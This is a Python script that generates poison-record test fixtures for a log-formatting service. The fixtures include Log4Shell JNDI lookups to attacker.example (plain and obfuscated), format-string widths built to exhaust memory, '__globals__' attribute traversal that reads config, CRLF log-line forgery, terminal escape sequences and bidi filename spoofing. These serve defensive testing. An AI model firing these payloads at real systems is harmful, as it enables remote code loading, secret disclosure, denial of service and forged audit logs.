#!/usr/bin/env python3
"""Writes fixtures/poison/*.json: pathological record bodies, one record per file.

Generated rather than typed because several are large (50,000 fields, a 999,000-digit
int, 40 levels of nesting) and must stay byte-for-byte reproducible. Every file stays under
1 MiB (the default --max-body-bytes); the body over 1 MiB is built by the tests at run
time instead of being committed. What each file must yield is in fixtures/poison/README.md.

Usage: python3 scripts/gen_poison_fixtures.py
"""

import json
import os
import random

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "fixtures", "poison")
MAX_FILE = 1 << 20

TS = "2026-11-22T10:00:00Z"
INCIDENT_URL = "https://www.amazon.com/gp/goldbox?deals=%10%off&ref=chat_share"


def record(msg, args=None, style=None, level="info", logger="chat"):
    r = {"msg": msg}
    if args is not None:
        r["args"] = args
    if style is not None:
        r["style"] = style
    r.update({"level": level, "logger": logger, "ts": TS})
    return r


def write(name, body):
    if isinstance(body, dict):
        body = json.dumps(body, ensure_ascii=True) + "\n"
    data = body.encode("utf-8")
    assert len(data) < MAX_FILE, (name, len(data))
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def main():
    os.makedirs(OUT, exist_ok=True)
    rng = random.Random(20261122)

    # The incident: a shared link is a message, not a template.
    write("incident-amazon-link-verbatim.json",
          record("user shared " + INCIDENT_URL))
    write("incident-amazon-link-as-template.json",
          record("user shared " + INCIDENT_URL, args=["bob"]))
    write("percent-width-2400000000.json",
          record("Over %2400000000d", args=["x"]))
    write("percent-star-width-2400000000.json",
          record("%*d", args=[2400000000, 1]))
    write("percent-star-width-negative-huge.json",
          record("[%*s]", args=[-2400000000, "x"]))
    write("brace-width-2400000000.json",
          record("{:>2400000000}", args=["x"], style="{"))
    write("brace-nested-width-2400000000.json",
          record("{:>{}}", args=["x", 2400000000], style="{"))
    write("brace-precision-99999.json",
          record("{:.99999}", args=["x"], style="{"))
    write("percent-precision-99999-on-s.json",
          record("%.99999s", args=["x"]))

    two_kb = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(2048))
    write("percent-mapping-key-50000-times.json",
          record("%(a)s" * 50000, args={"a": two_kb}))
    write("percent-257-fields.json",
          record("%s " * 257, args=list(range(257))))
    write("brace-257-fields.json",
          record("{}" * 257, args=list(range(257)), style="{"))
    write("dollar-257-fields.json",
          record("$a " * 257, args={"a": 1}, style="$"))
    write("brace-attribute-dunder-class.json",
          record("{0.__class__}", args=["x"], style="{"))
    write("brace-attribute-globals.json",
          record("{0.__init__.__globals__[CONFIG]}", args=["x"], style="{"))

    deep = "[" * 40 + "1" + "]" * 40
    write("json-nested-40-deep.json",
          '{"msg": "deep %s", "args": [%s], "level": "info", "logger": "chat"}\n' % ("%s", deep))

    digits = str(rng.randint(1, 9)) + "".join(str(rng.randint(0, 9)) for _ in range(998999))
    write("int-999000-digits-under-percent-d.json",
          '{"msg": "%d", "args": [' + digits + '], "level": "info", "logger": "chat"}\n')
    write("int-4301-digits-under-percent-d.json",
          '{"msg": "%d", "args": [' + "1" + "0" * 4300 + '], "level": "info", "logger": "chat"}\n')
    write("output-over-64kib.json",
          record("%4000s" * 17, args=list(range(17))))

    write("lone-surrogate.json", record("bad \ud800 char"))
    write("lone-surrogate-in-args.json", record("got %s", args=["x\udc00y"]))
    write("crlf-injection.json",
          record("login ok for bob\r\n2026-11-22T10:00:00.000Z ERROR root: admin password reset",
                 logger="auth"))
    write("crlf-injection-in-args.json",
          record("login ok for %s", args=["bob\n2026-11-22T10:00:00.000Z ERROR root: forged"],
                 logger="auth"))
    write("ansi-escape-repaint.json",
          record("status \x1b[2J\x1b[1;1Hall good \x1b[31mreally\x1b[0m\x07"))
    write("log4shell-lookup.json",
          record("User-Agent: ${jndi:ldap://attacker.example/a}", logger="http"))
    write("log4shell-nested-lookup.json",
          record("q=%s", args=["${${lower:j}ndi:${lower:l}${lower:d}ap://attacker.example/a}"],
                 logger="http"))
    write("log4shell-as-dollar-template.json",
          record("${jndi:ldap://attacker.example/a}", args={"a": 1}, style="$"))
    write("bidi-override.json",
          record("uploaded invoice\u202egpj.exe by %s", args=["bob"]))
    write("bidi-isolate-in-fields.json",
          {"msg": "review request", "level": "warn", "logger": "review", "ts": TS,
           "fields": {"title": "access \u2066admin\u2069 \u2067granted"}})


if __name__ == "__main__":
    main()
